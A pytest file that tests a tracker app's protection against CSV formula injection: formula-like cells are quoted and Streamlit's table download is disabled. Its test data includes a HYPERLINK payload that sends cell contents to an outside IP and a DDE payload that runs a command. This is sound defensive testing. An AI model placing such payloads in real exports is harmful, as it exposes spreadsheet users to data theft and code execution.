"""CSV files that open safely in a spreadsheet (issue 12 item 4): a typed value that
begins like a formula is made text; Streamlit's own table download is off."""

from __future__ import annotations

import csv
import io
import tomllib
from pathlib import Path

import pytest

from tracker.app.table_export import csv_cell, to_csv

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = [
    '=HYPERLINK("http://203.0.113.9/?"&A2,"Ava")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_start_is_made_text(value: str) -> None:
    assert csv_cell(value) == "'" + value
    rows = list(csv.reader(io.StringIO(to_csv(["Client"], [[value]]).decode("utf-8-sig"), newline="")))
    assert rows == [["Client"], ["'" + value]]


def test_numbers_and_plain_text_are_kept() -> None:
    assert (
        csv_cell(-1.5) == -1.5 and csv_cell(3) == 3 and csv_cell(None) == "" and csv_cell(float("nan")) == ""
    )
    for text in ("Ava Lee", "王芳 🌸", "a=b", "1-2", "'quoted"):
        assert csv_cell(text) == text
    data = to_csv(["=Header", "n"], [["王芳", -2.0]])
    assert data.startswith("\ufeff".encode()) and data.decode("utf-8-sig") == "'=Header,n\r\n王芳,-2.0\r\n"


def test_streamlit_table_download_is_switched_off() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
